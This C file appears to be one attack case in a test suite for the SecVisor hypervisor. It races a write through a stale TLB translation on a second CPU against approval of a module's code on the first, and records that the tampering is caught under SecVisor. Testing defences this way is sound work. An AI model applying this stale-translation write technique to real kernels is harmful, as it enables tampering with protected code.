// Row 15. The second CPU writes without pause by a translation it has in its TLB, while the first runs a module's text for the first time, so that it is approved.
// Source: AMD64 APM 2, 5.5 (TLB): a right that was taken away holds on until it is flushed on every CPU.
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/answer.h"

// What is there already, for three seconds; then, within the same loop, what is not.
static void write_on(void *with)
{
	const struct answer *answer = with;

	operate(VULNERABLE_STORE, answer->alias, answer->right, 8);

	struct vulnerable_operation op = { .what = VULNERABLE_TOGGLE,
					   .in = { answer->alias, answer->right, 3000, answer->wrong, 3000, 1 } };
	try_operate(&op);
}

ATTACK("warm-translation")
{
	struct answer answer = load_answer();

	end_restored(&answer, call_while(write_on, &answer, 500000));
}
